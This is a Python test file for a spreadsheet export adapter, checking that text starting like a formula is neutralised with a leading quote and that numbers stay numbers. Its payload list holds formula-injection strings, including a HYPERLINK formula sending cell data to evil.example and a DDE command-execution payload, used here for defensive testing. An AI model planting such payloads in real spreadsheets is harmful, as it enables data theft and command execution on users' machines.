"""Text bound for a spreadsheet is data, never a formula; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from adapters.spreadsheet import BOM, FORMULA_LEADS, CsvSheet, csv_chunks, safe_cell

PAYLOADS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")", "+1+1", "-2+3", "@SUM(1)",
            "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0", "-48 000 kr", "=", "@"]


@pytest.mark.parametrize("lead", FORMULA_LEADS)
def test_text_that_starts_like_a_formula_gets_a_quote_first(lead: str) -> None:
    assert safe_cell(lead + "SUM(A1:A9)") == "'" + lead + "SUM(A1:A9)"


@pytest.mark.parametrize("text", PAYLOADS)
def test_known_payloads_are_neutralised(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Lokalhyra", "", "1 000 kr", "Ramsjö = byn", "a-b", " =1",
                                  "'already quoted", "2027-03-01T14:30:00+00:00"])
def test_ordinary_text_is_left_as_it_is(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("number", [0, 1, -1, -48_000_00, 2**63 - 1, Decimal("-12.50"), -0.5, 1.25])
def test_numbers_stay_numbers_even_negative_ones(number: int | float | Decimal) -> None:
    cell = safe_cell(number)
    assert cell == number and type(cell) is type(number)


def test_none_is_an_empty_cell_and_a_bool_a_word() -> None:
    assert safe_cell(None) == ""
    assert safe_cell(True) == "true"


def test_a_csv_sheet_quotes_text_leaves_numbers_bare_and_starts_with_the_bom() -> None:
    text = "".join(csv_chunks(["position", "label", "amount"],
                              [[[7, "=HYPERLINK(\"x\")", -4800]], [[8, "@SUM(1)", Decimal("1.5")]]]))
    assert text.startswith(BOM)
    lines = text[len(BOM):].split("\r\n")
    assert lines[1] == '7,"\'=HYPERLINK(""x"")",-4800'
    assert lines[2] == '8,"\'@SUM(1)",1.5'
    rows = list(csv.reader(io.StringIO(text[len(BOM):])))
    assert rows[1] == ["7", "'=HYPERLINK(\"x\")", "-4800"]


def test_only_the_first_chunk_of_a_sheet_carries_the_bom() -> None:
    sheet = CsvSheet()
    assert sheet.rows([["a"]]).startswith(BOM)
    assert not sheet.rows([["b"]]).startswith(BOM)
